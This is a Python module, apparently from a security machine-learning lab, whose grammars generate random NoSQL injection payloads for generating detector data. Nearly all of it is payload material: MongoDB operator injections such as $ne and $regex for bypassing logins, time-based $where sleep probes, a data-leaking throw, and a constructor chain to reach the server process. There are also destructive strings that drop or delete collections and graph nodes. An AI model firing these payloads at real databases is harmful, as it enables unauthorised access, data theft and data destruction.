"""NoSQL injection (CWE-943): operators instead of values, and JavaScript in queries."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_OPERATOR_RULES: Final = rules(
    r"""
start
    {"«compare»":«value»}
    {"«compare»":«value»}
    {"«compare»":«value»}
    {"«compare»":«value»,"«compare»":«value»}
    {"$regex":"«regex»"}
    {"$regex":"«regex»"}
    {"$regex":"«regex»","$options":"«option»"}
    {"$in":[«values»]}
    {"$nin":[«values»]}
    {"$exists":«bool»}
    {"$not":{"«compare»":«value»}}
    {"$type":«int:1-18»}
    {"$where":"«where»"}
    {"$where":"«where»"}
    {"$or":[{"«ident»":«value»},{"«ident»":{"«compare»":«value»}}]}
    {"$or":[{},{"«ident»":"«word»"}]}
    {"$and":[{"«ident»":{"«compare»":«value»}},{"«ident»":{"$exists":«bool»}}]}
    {"$expr":{"$eq":["$«ident»","$«ident»"]}}
    {"$expr":{"$function":{"body":"«where»","args":[],"lang":"js"}}}
    {"$elemMatch":{"«compare»":«value»}}
    {"$size":«int:0-9»}
    {"$mod":[«int:1-9»,«int:0-3»]}
    {"$all":[«values»]}
    {"$nor":[{"«ident»":«value»}]}
    {"$comment":"«label»","$gt":""}
    {"$lookup":{"from":"«table»","localField":"«ident»","foreignField":"«ident»","as":"«lower:4»"}}
    {"$jsonSchema":{"required":["«ident»"]}}
    {"«ident»":{"«compare»":«value»}}
    {"$text":{"$search":"«word»"}}
    {"$slice":«int:1-9»}
    {"$ne":«value»,"$regex":"«regex»"}
    [{"$match":{"«ident»":{"«compare»":«value»}}}]
    {"selector":{"_id":{"«compare»":null}}}
compare:
    $ne $ne $ne $gt $gt $gte $lt $lte $eq
value
    null
    null
    ""
    ""
    «int:0-9999»
    "«word»"
    "«alnum:6»"
    -1
    [«int:0-9»]
    true
    false
    {}
values
    "«who»","«who»"
    "«who»"
    null
    «int:0-99»,«int:0-99»
    "«label»","«label»","«who»"
    []
who:
    admin administrator root user «label» test guest
bool:
    true false true
option:
    i s x m im
regex
    ^«lower:1»
    ^«alnum:2»
    ^«alnum:3».*
    .*
    .{«int:1-40»}
    ^.{«int:1-40»}$
    ^(?!«label»)
    ^«who»
    .*«lower:2».*
    ^«lower:1»[a-m]
    [\\s\\S]*
    ^.*$
    (?i)«who»
    ^«label»|«who»
    \\d{«int:1-9»}
    ^(a+)+$
where
    return true
    return this.«ident» == '«word»'
    this.«ident».length > «int:0-40»
    this.«ident».match(/^«lower:1»/)
    sleep(«int:1-20»000)
    sleep(«int:1-20»000) || true
    function(){return true}
    function(){sleep(«int:1-9»000)}
    this.«ident» != «int:0-99»
    «int:1-9»==«int:1-9»
    Object.keys(this)[«int:0-9»].match('^.{«int:0-9»}«lower:1».*')
    this.constructor.constructor('return process')()
    var d=new Date();do{c=new Date();}while(c-d<«int:1-9»000)
    this.«ident» === this.«ident»
    tojson(this).length > «int:1-900»
"""
)
_TEXT_RULES: Final = rules(
    r"""
start
    «word»'«o»||«o»«truth»«tail»
    «word»'«o»||«o»«truth»«tail»
    '«o»||«o»«truth»«tail»
    '«o»&&«o»«truth»«tail»
    "«o»||«o»«truth»«tail»
    ';«o»«where»;«o»var «lower:1»='
    ';«where»;//
    '};«o»«where»;//
    1;«where»
    '«o»||«o»this.«ident»«o»&&«o»this.«ident».match(/^«lower:1».*$/)//
    «word»'«o»&&«o»this.«ident».match(/«alnum:2»/i)«o»&&«o»'a'=='a
    ';«o»return«space»«truth»;«o»var«space»«lower:2»='«lower:1»
    «n»,«o»$where:«o»'«truth»'
    {$«op»:«o»«n»}
    {«ident»:{$«op»:«o»'«word»'}}
    ',«o»$or:«o»[{},{'«lower:1»':'«lower:1»
    '},«o»«ident»:«o»{$«op»:«o»''},«o»'«lower:1»':'
    db.«table».find({$where:«o»"«where»"})
    db.«table».insert({«ident»:'«word»'})
    db.«table».drop()
    '«o»+«o»db.version()«o»+«o»'
    «word»'+sleep(«int:1-9»000)+'
    true,«o»$where:«o»'«truth»'
    $where=«where»
    «word»\u0027«o»||«o»«truth»//
    '"\/$[].>
    «word»%00'«o»||«o»«truth»
    ';while(true){}//
    |«o»«truth»
    {"«ident»":«o»{"$«op»":«o»«n»}}
    [$«op»]=«word»
    '}«o»]«o»}«o»//«label»
    ');«o»db.«table».remove();//
    MATCH«space»(n)«space»WHERE«space»n.«ident»=«n»«space»DETACH«space»DELETE«space»n//
    '«space»OR«space»1=1«space»RETURN«space»«lower:1»//
    emit(this.«ident»,«n»);
    *:*«space»OR«space»_query_:"{!xmlparser«space»v='<!DOCTYPE«space»a>'}"
    «word»*)«space»OR«space»(«ident»:*
truth:
    1==1 '1'=='1 '«lower:1»'=='«lower:1» «int:2-99»==«int:2-99» true 'a'!='b «n»<«n» this.«ident»!=«n»
    "«lower:2»"=="«lower:2» !0 this._id this.«ident»!='' new(Date) typeof(this)=='object'
where:
    return(true) sleep(«int:1-20»000) return(this.«ident»!='«word»') this.«ident»=«n» return(tojson(this))
    db.getName() throw(this.«ident») while(1){} return(db.getCollectionNames()[«int:0-9»])
    throw(new(Error)(JSON.stringify(this)))
tail
    «empty»
    //
    //
    «nul»
    %00
    ;//
    «space»//«lower:3»
    «space»&&«space»'«lower:1»'=='«lower:1»
    }//
o
    «empty»
    «empty»
    «space»
    «space»
op:
    ne gt gte lt regex in nin exists where or
"""
)
_OPERATOR: Final = Grammar({**BLOCKS, **_OPERATOR_RULES})
_TEXT: Final = Grammar({**BLOCKS, **_TEXT_RULES})


def operator(rng: Random) -> str:
    """A JSON object of query operators, to stand where a value was expected."""
    return _OPERATOR.generate(rng)


def payload(rng: Random) -> str:
    """One NoSQL injection payload: a JSON operator object, or text that breaks out of a query string."""
    return operator(rng) if rng.random() < 0.5 else _TEXT.generate(rng)
